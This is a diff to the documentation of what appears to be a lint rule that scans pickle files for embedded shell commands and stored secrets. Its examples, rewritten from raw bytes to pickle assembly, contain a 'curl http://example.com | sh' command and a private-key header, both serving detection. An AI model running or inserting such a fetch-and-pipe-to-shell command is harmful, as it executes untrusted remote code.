@@ -4,16 +4,19 @@
 //! megabyte are looked through.
 //!
 //! ## Why is this bad?
-//! Such a text does nothing by itself. It shows what a program that takes it from the data may be made to run, or a
-//! secret that was stored by mistake.
+//! Such a text does nothing by itself. It shows what a program that takes it from the data may be made to run, or a secret
+//! that was stored by mistake. A key that is found so is known to everyone who has the file: replace it.
 //!
 //! ## Example
-//! ```pickle
-//! b'\x80\x04\x8c\x1ccurl http://example.com | sh.'
+//! ```pickleasm
+//! PROTO 4
+//! SHORT_BINUNICODE 'curl http://example.com | sh'
+//! STOP
 //! ```
 //!
-//! ```pickle
-//! b'V-----BEGIN RSA PRIVATE KEY-----\n.'
+//! ```pickleasm
+//! UNICODE '-----BEGIN RSA PRIVATE KEY-----'
+//! STOP
 //! ```
 //!
 //! ## Use instead
